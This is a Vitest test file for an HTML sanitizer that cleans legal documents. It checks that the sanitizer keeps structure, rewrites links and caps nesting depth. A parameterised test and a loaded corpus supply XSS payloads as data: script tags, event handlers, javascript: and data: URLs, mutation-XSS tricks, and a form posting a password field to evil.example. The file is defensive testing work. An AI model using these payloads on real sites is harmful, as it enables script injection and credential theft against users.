import { expect, it } from 'vitest';
import { sanitizeDocument } from '../../../server/legal/sanitizeDocument.ts';
import { corpus } from '../../corpora.ts';

const base = new URL('https://legal.example/en/terms');
const clean = (html: string) => sanitizeDocument(html, base);

it('[LEGAL-2] keeps the structure of a text and nothing of its looks', () => {
  expect(
    clean(`<!doctype html><html><head><title>No</title><style>p { color: red }</style></head>
<body bgcolor="red" style="width: 900px"><center><h1 class="big" style="color: red">Terms</h1></center>
<font face="Courier" size="1"><p align="center">One <b>two</b> <em>three</em><br>four</p></font>
<ol start="3"><li>A</li></ol><ul><li>B</ul><blockquote cite="x">Q</blockquote></body></html>`)?.trim(),
  ).toBe(`<div><h1>Terms</h1></div>
<p>One <b>two</b> <em>three</em><br />four</p>
<ol start="3"><li>A</li></ol><ul><li>B</li></ul><blockquote>Q</blockquote>`);
});

it('[LEGAL-2] lets a wide table scroll by itself, also for the keyboard', () => {
  expect(
    clean('<table width="2000" border="1"><tr><td colspan="2" nowrap>Cell &lt;table&gt;</td></tr>'),
  ).toBe(
    '<div class="wide" tabindex="0"><table><tr><td colspan="2">Cell &lt;table&gt;</td></tr></table></div>',
  );
});

it('[LEGAL-2] opens links in a new tab, except within the page', () => {
  const outside = 'target="_blank" rel="noopener noreferrer nofollow"';
  const cases = [
    [
      '<a href="https://a.example/?a=1&b=2" target="_top">x</a>',
      `<a href="https://a.example/?a=1&amp;b=2" ${outside}>x</a>`,
    ],
    ['<a href="mailto:me@a.example">x</a>', `<a href="mailto:me@a.example" ${outside}>x</a>`],
    ['<a href="../privacy">x</a>', `<a href="https://legal.example/privacy" ${outside}>x</a>`],
    ['<a href="//b.example/">x</a>', `<a href="https://b.example/" ${outside}>x</a>`],
    ['<a href="#paying" target="_top">x</a>', '<a href="#paying">x</a>'],
    ['<a name="paying">x</a>', '<a id="paying">x</a>'],
    ['<h2 id="paying" onclick="x()">x</h2>', '<h2 id="paying">x</h2>'],
    ['<a href="http://[">x</a>', '<a>x</a>'],
  ];
  for (const [html = '', expected] of cases) expect(clean(html)).toBe(expected);
});

it.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><a title="</style><img src=x onerror=alert(1)>"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>x</p>',
  '<p/onclick=alert(1)>x</p>',
  '<p title="<script>alert(1)</script>">x</p>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction=x>Go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<<script>script>alert(1)<</script>/script>',
  '<main data-document="privacy">x</main>',
  '<video src=x onloadstart=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
])('[LEGAL-2] P06 makes harmless: %s', (attack) => {
  const text = clean(`<p>Text</p>${attack}<p>End</p>`) ?? '';
  const tags = text.match(/<[^>]*>/g)?.join('') ?? '';
  expect(text).toContain('<p>Text</p>');
  expect(tags).not.toMatch(
    /\son\w+=|style|script|javascript:|vbscript:|data[:-]|src=|evil|<(?!\/?(p|a|div|table|b)\b)/i,
  );
});

const attacks = corpus<{ readonly payload: string }>('xss/dompurify-expect.json', [
  { payload: '"><img src=x onerror=alert(1)>' },
]);

it('[LEGAL-2] P06 lets no attack of the corpus through', () => {
  const live =
    /\son\w+=|<\/?(script|style|img|svg|iframe|form|input|meta|base|link|object)\b|href="(?!https?:|mailto:|#)/i;
  for (const { payload } of attacks) {
    const tags =
      clean(`<p>Text</p>${payload}`)
        ?.match(/<[^>]*>/g)
        ?.join('') ?? '';
    expect([payload, live.test(tags)]).toEqual([payload, false]);
  }
});

it('[LEGAL-2] K09 takes no page of more than 40,000 tags apart, keeps no tag below 60 others, and no page without a text', () => {
  const most = '<p>Text</p>'.repeat(20_000);
  expect(clean(most)).toBe(most);
  for (const tag of ['<b>', '<x>', '<p>', '<']) {
    expect(clean(most + tag)).toBeNull();
    expect(clean(tag.repeat(170_000))).toBeNull();
  }
  expect(clean(`${'<b>'.repeat(10_000)}deep`)).toBe(`${'<b>'.repeat(60)}deep${'</b>'.repeat(60)}`);
  expect(clean('<section>'.repeat(1000))).toBeNull();
});
